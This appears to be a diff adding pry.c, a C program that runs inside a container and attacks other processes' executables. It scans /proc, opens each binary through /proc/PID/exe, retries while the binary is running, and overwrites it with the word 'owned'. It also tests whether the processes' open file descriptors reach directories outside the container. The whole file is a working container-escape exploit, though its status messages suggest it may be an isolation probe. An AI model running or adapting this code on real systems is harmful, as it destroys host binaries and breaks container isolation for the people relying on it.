@@ -1,0 +1,111 @@
+/* pry.c - pry: from inside a container, gets hold of the program of whoever comes by and writes
+ * into it. Says once of each what it could do: "denied", "opened NAME", "readonly NAME", "overwrote
+ * NAME", "reached NAME" (a directory by one of its fds). Its own program and init's are none. */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#define MOST 256
+static char said[MOST][300];
+static int count;
+
+static void say(const char *what, const char *name)
+{
+	char line[300];
+	snprintf(line, sizeof(line), "%s %.250s\n", what, name);
+	for (int i = 0; i < count; i++)
+		if (!strcmp(said[i], line))
+			return;
+	if (count < MOST)
+		strcpy(said[count++], line);
+	if (write(1, line, strlen(line)) < 0)
+		exit(1);
+}
+
+static void overwrite(int fd, const char *name)
+{
+	char path[64];
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (;;) {
+		int out = open(path, O_WRONLY);
+		if (out < 0 && errno == ETXTBSY)
+			continue; /* as long as it runs */
+		if (out < 0) {
+			say(errno == EROFS ? "readonly" : strerror(errno), name);
+			return;
+		}
+		if (write(out, "owned", 5) == 5)
+			say("overwrote", name);
+		close(out);
+		return;
+	}
+}
+
+/* Its fds, by which one may go where it can. */
+static void reach(const char *pid)
+{
+	char path[300], name[256], within[400];
+	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
+	DIR *d = opendir(path);
+	if (!d)
+		return;
+	for (struct dirent *e; (e = readdir(d));) {
+		struct stat st;
+		if (!isdigit((unsigned char)*e->d_name))
+			continue;
+		snprintf(within, sizeof(within), "%s/%s/..", path, e->d_name);
+		snprintf(path + strlen(path), sizeof(path) - strlen(path), "/%.20s", e->d_name);
+		ssize_t n = readlink(path, name, sizeof(name) - 1);
+		if (n > 0 && stat(within, &st) == 0) {
+			name[n] = 0;
+			say("reached", name);
+		}
+		snprintf(path, sizeof(path), "/proc/%s/fd", pid);
+	}
+	closedir(d);
+}
+
+static void pry(const char *pid, const struct stat *own)
+{
+	char path[300], name[256];
+	struct stat st;
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	ssize_t n = readlink(path, name, sizeof(name) - 1);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0) {
+		if (errno == EACCES || errno == EPERM)
+			say("denied", "");
+		return;
+	}
+	name[n > 0 ? n : 0] = 0;
+	if (fstat(fd, &st) == 0 && (st.st_ino != own->st_ino || st.st_dev != own->st_dev) &&
+	    strcmp(name, "/bin/busybox")) {
+		say("opened", name);
+		reach(pid);
+		overwrite(fd, name);
+	}
+	close(fd);
+}
+
+int main(void)
+{
+	struct stat own;
+	if (stat("/proc/self/exe", &own) < 0)
+		return 1;
+	for (;;) {
+		DIR *d = opendir("/proc");
+		if (!d)
+			return 1;
+		for (struct dirent *e; (e = readdir(d));)
+			if (isdigit((unsigned char)*e->d_name) && strcmp(e->d_name, "1"))
+				pry(e->d_name, &own);
+		closedir(d);
+	}
+}
